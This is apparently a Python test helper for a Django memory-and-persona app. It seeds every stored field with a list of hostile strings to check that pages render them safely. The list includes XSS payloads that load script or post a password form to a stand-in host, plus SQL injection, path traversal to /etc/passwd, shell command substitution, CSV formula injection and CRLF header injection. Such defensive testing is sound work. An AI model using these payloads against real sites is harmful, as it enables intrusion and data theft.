"""Texts that try to be more than text, and a team in which everything that pages show is made of them."""

from __future__ import annotations

import json
from collections.abc import Sequence
from itertools import cycle
from pathlib import Path
from uuid import UUID
from zipfile import ZipFile

from django.utils import timezone

from memories.models import Entity, ForgetRequest, Memory, MemoryEntity, MergeProposal, Observation, Todo
from nebo.product.governance.services.manifest import PAGE, FileDigest
from nebo.product.governance.services.readable_page import Page, write_page
from nebo.product.memory_files.models import MemoryFile
from nebo.tenants.models import ApiKey, Pause, Tenant, UserProfile
from nebo.tenants.scoping import operator_scope, tenant_scope
from nebo.tenants.services import create_tenant, issue_key
from personality.models import Persona, PersonaCandidate, PersonaEvidence
from personality.personas.editing import ensure_default_persona
from sessions.models import Message, Session, SessionSummary
from tests.conftest import Team
from tests.memories.conftest import say

TOGETHER = 20  # texts at a time: as many as a page of a list shows
OWN = (
    "<script>document.title='owned'</script>",
    "</script><script src=//elsewhere.example/x.js></script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src=https://elsewhere.example/pixel.png>",
    "<svg onload=\"document.title='owned'\"><animate onbegin=alert(1) attributeName=x dur=1s>",
    '"><b autofocus tabindex=0 onfocus=alert(1)>focus</b>',
    "' onmouseover='alert(1)' x='",
    "\" style=\"position:fixed;inset:0;background:url(//elsewhere.example/b)",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<object data=//elsewhere.example/o><embed src=//elsewhere.example/e>",
    "<base href=//elsewhere.example/><form action=//elsewhere.example/f><input name=password autofocus>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/s.css><style>*{display:none}</style>",
    "<a href=\"javascript:alert(1)\">click</a> [click](javascript:alert(1))",
    "<div hx-get=https://elsewhere.example/ hx-trigger=load hx-on:htmx:load=alert(1) data-hx-get=/x>",
    "</textarea></title></select><h1>broken out</h1><!-- ",
    "--></template></noscript><plaintext>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<dialog open>fake</dialog><details open ontoggle=alert(1)><summary>x</summary></details>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e; &amp;amp;",
    "{{ 7*7 }} {% load static %} {% include 'base.html' %} ${7*7} #{7*7} <%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E %00 %0d%0aSet-Cookie: owned=1",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cimg onerror=alert(1)\\x3e",
    "'; DROP TABLE memories_memory; -- \" OR 1=1 /*",
    "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd",
    "`id` $(id) | id ; id && id > /tmp/owned",
    "=1+1+cmd|' /C calc'!A0 @SUM(1) +1 -1",
    "photo\u202egnp.exe \u2066hidden\u2069 \u200b\u200d\ufeff end",
    "Z\u0351\u036b\u0343a\u0363\u0342l\u0357\u0357g\u0366\u035ao" * 12,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e007f \u2764\ufe0f",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd <bdi dir=ltr> \u202b right to left",
    "supercalifragilisticexpialidocious" * 9,
    "W" * 300,
    "https://elsewhere.example/" + "path/" * 50,
    "\ufdfd" * 40,
    "a\nb\tc\r\nd\u2028e\u2029f\x0bg\x0ch",
    "\x1b[31mred\x1b[0m \x07 \x7f \u0080 \u009b",
    "NaN null undefined true Infinity [object Object] __proto__ constructor",
    " ",
    "\U00100000\ue000\ufffd \u0000".replace("\u0000", "").strip(),
)  # fmt: skip


def read_texts(file: str) -> list[str]:
    """Our own; or those of a file, `{"text": …}` a line, as Postgres can keep them."""
    if not file:
        return list(OWN)
    lines = Path(file).read_bytes().decode().split("\n")  # not splitlines: a text may hold U+2028
    texts = [str(json.loads(line)["text"]).replace("\x00", "") for line in lines if line.strip()]
    return [text.encode("utf-8", "replace").decode() for text in texts if text]


def plant(team: Team, texts: Sequence[str]) -> None:
    """Each of them as a value, a key, tags, a name, a message, the key of a session and whatever waits in the inbox.

    It is written past the doors, which would refuse or clean some of it: pages have to bear what a table can hold.
    """
    with tenant_scope(team.tenant):
        default = ensure_default_persona(tenant=team.tenant)
        messages = say(team, *texts)
        for number, (text, message) in enumerate(zip(texts, messages, strict=True)):
            _plant_conversation(team, text, number)
            _plant_memories(team, text, number, message)
            _plant_waiting(team, text, number, message, default)
            _plant_names(team, text, number)
            _plant_people(team, text, number)
        _plant_pauses(team, texts)
        _bear_out_one(team, messages)
    _plant_teams(team, texts)


def _plant_conversation(team: Team, text: str, number: int) -> None:
    session = Session.objects.for_tenant(team.tenant).create(
        person=team.person, key=f"{text[:240]} {number}", summary=text, active_task=text, turn_count=1
    )
    Message.objects.for_tenant(team.tenant).create(
        session=session, person=team.person, seq=1, role="user", content=text, name=text[:200]
    )
    SessionSummary.objects.for_tenant(team.tenant).create(
        session=session,
        one_liner=text[:400],
        what_mattered=[text],
        open_loops=[text],
        commitments=[text],
        people=[text],
        tone=text[:200],
    )


def _plant_memories(team: Team, text: str, number: int, message: Message) -> None:
    label = text[:200]
    entity = Entity.objects.for_tenant(team.tenant).create(
        person=team.person, ref=f"person:{number} {text[:120]}", type="person", label=label
    )
    for status in ("active", "quarantined"):
        memory = Memory.objects.for_tenant(team.tenant).create(
            person=team.person,
            namespace=f"{text[:100]} {number}",
            key=f"{text[:60]} {number} {status}",
            value=text[:500],
            tags=[text[:64]],
            entity_refs=[entity.ref],
            entity_label=label,
            source="agent",
            status=status,
            quarantine_reason=text[:200] if status == "quarantined" else "",
        )
        MemoryEntity.objects.for_tenant(team.tenant).create(memory=memory, entity=entity)
        Observation.objects.for_tenant(team.tenant).create(
            memory=memory, message=message, value=text[:500], quote=text, extractor="model", model=text[:100]
        )


def _plant_waiting(team: Team, text: str, number: int, message: Message, persona: Persona) -> None:
    tenant = team.tenant
    wish = PersonaCandidate.objects.for_tenant(tenant).create(
        persona=persona,
        person=team.person,
        field="rules",
        value=f"{text[:150]} {number}",
        decision="deferred",
        reason="needs_confirmation",
    )
    PersonaEvidence.objects.for_tenant(tenant).create(
        candidate=wish, message=message, quote=text[:300], weight=0.5
    )
    todo = Todo.objects.for_tenant(tenant).create(person=team.person, text=f"{text[:250]} {number}")
    ForgetRequest.objects.for_tenant(tenant).create(
        person=team.person, what=text[:150], memory_ids=[], todo_ids=[todo.pk], message_id=message.pk
    )
    first, second = (
        Entity.objects.for_tenant(tenant).create(
            person=team.person, ref=f"place:{number}-{side}", type="place", label=text[:200]
        )
        for side in ("a", "b")
    )
    MergeProposal.objects.for_tenant(tenant).create(person=team.person, first=first, second=second)


def _plant_names(team: Team, text: str, number: int) -> None:
    tenant = team.tenant
    issue_key(tenant=tenant, person=team.person, name=text[:60])
    persona, _ = Persona.objects.for_tenant(tenant).get_or_create(slug=f"hostile-{number}")
    Persona.objects.for_tenant(tenant).filter(pk=persona.pk).update(
        name=text[:60], role=text[:100], creature=text[:60], vibe=text[:100], custom_personality=text
    )
    MemoryFile.objects.for_tenant(tenant).create(
        person=team.person, path=f"{text[:100]} {number}", text=text, held=[text], updated_at=timezone.now()
    )


def _plant_people(team: Team, text: str, number: int) -> None:
    """Others for whom the login stands: every page's menu has them."""
    UserProfile.objects.for_tenant(team.tenant).create(
        external_id=f"{number} {text[:200]}",
        login=team.owner,
        display_name=text[:200],
        location=text[:200],
        occupation=text[:200],
        interests=[text[:200]],
        goals=text,
        context=text,
        communication_style=text,
    )


def _plant_pauses(team: Team, texts: Sequence[str]) -> None:
    """Of the person, of each conversation, and of each key, for the person and for everybody in turn."""
    tenant, person = team.tenant, team.person
    pauses = Pause.objects.for_tenant(tenant)
    given = {"made_by": f"user:{team.owner.pk}", "person": person}
    pauses.create(scope="person", reason=texts[0][:200], **given)
    sessions = Session.objects.for_tenant(tenant).filter(person=person).exclude(key="chat")
    for session, text in zip(sessions, cycle(texts), strict=False):
        pauses.create(scope="session", session=session, reason=text[:200], **given)
    keys = ApiKey.objects.for_tenant(tenant).filter(person=person)
    for number, (key, text) in enumerate(zip(keys, cycle(texts), strict=False)):
        whose = {"person": None} if number % 2 else {}
        pauses.create(scope="key", key=key, reason=text[:200], **{**given, **whose})


def _bear_out_one(team: Team, messages: Sequence[Message]) -> None:
    """All of them are quoted by one memory, whose page then has them all."""
    memory = Memory.objects.for_tenant(team.tenant).filter(status="active", source="agent").latest("pk")
    for message in messages:
        Observation.objects.for_tenant(team.tenant).create(
            memory=memory,
            message=message,
            value=message.content[:500],
            quote=message.content,
            extractor="model",
        )


def _plant_teams(team: Team, texts: Sequence[str]) -> None:
    """Other teams of the login, in the same menu; its own and its person are called so, too."""
    for number, text in enumerate(texts):
        create_tenant(slug=f"hostile-{number}", name=text[:200], owner=team.owner)
    with operator_scope():
        own = Tenant.objects.using("operator").filter(pk=team.tenant.pk)
        own.update(name=texts[-1][:200], admins_look=True)
        UserProfile.unscoped.filter(pk=team.person.pk).update(display_name=texts[0][:200])


def write_export(team: Team, file: Path) -> None:
    """The page of an export that a person opens from their disk."""
    with ZipFile(file.with_suffix(".zip"), "w") as archive:
        page = Page(team.person, timezone.now(), {"memories.jsonl": FileDigest()})
        write_page(archive, page, store=lambda: None)
        file.write_bytes(archive.read(PAGE))


def list_addresses(team: Team) -> list[str]:
    """Pages below the team's address on which they stand, beyond those of the table: one row of each kind."""
    with tenant_scope(team.tenant):
        named = {
            "memories/{}/": Memory.objects.for_tenant(team.tenant).filter(status="active"),
            "memories/{}/?held": Memory.objects.for_tenant(team.tenant).filter(status="quarantined"),
            "memories/{}/edit/": Memory.objects.for_tenant(team.tenant).filter(status="active"),
            "memories/{}/forget/": Memory.objects.for_tenant(team.tenant).filter(status="active"),
            "inbox/?only={}": Memory.objects.for_tenant(team.tenant).filter(status="quarantined"),
            "people/{}/": Entity.objects.for_tenant(team.tenant).filter(type="person"),
            "todos/{}/edit/": Todo.objects.for_tenant(team.tenant),
            "sessions/{}/": Session.objects.for_tenant(team.tenant).filter(key="chat"),
            "sessions/{}/?paused": Session.objects.for_tenant(team.tenant).exclude(key="chat"),
            "data/pauses/sessions/{}/": Session.objects.for_tenant(team.tenant).exclude(key="chat"),
            "data/pauses/keys/{}/": ApiKey.objects.for_tenant(team.tenant).filter(person=team.person),
            "data/pauses/keys/{}/everybody/": ApiKey.objects.for_tenant(team.tenant),
            "keys/{}/": ApiKey.objects.for_tenant(team.tenant),
            "everyone/{}/": UserProfile.objects.for_tenant(team.tenant).filter(kind="person"),
            "everyone/{}/pause/": UserProfile.objects.for_tenant(team.tenant).filter(kind="person"),
            "context/?session={}": Session.objects.for_tenant(team.tenant).filter(key="chat"),
            "files/{}/": MemoryFile.objects.for_tenant(team.tenant),
        }
        return [address.format(_newest(rows)) for address, rows in named.items()]


def _newest(rows: object) -> UUID:
    return rows.order_by("-pk").values_list("pk", flat=True)[0]
